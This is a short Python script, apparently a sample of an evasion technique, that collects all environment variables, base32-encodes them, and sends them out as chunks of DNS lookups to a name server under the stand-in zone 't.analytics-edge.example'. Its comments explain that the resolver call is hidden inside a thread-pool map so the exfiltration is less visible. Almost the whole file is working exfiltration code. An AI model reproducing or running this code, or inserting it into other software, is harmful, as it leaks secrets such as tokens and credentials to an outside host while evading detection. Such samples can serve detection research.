# Evasion: sends the environment out of the machine through DNS.
# Hiding: the resolver is never called in the program text: a thread pool
# maps socket.gethostbyname over labels built from the environment
# (base32 of each value, in 50-character pieces), so each lookup carries a
# piece to an attacker's name server.
import base64
import os
import socket
from concurrent.futures import ThreadPoolExecutor

ZONE = "t.analytics-edge.example"


def names():
    blob = base64.b32encode("\n".join(f"{k}={v}" for k, v in dict(os.environ).items()).encode())
    text = blob.decode().rstrip("=").lower()
    return [f"{text[i:i + 50]}.{i // 50}.{ZONE}" for i in range(0, len(text), 50)]


def safe(fn):
    def wrapped(name):
        try:
            return fn(name)
        except OSError:
            return None
    return wrapped


with ThreadPoolExecutor(8) as pool:
    list(pool.map(safe(socket.gethostbyname), names()))
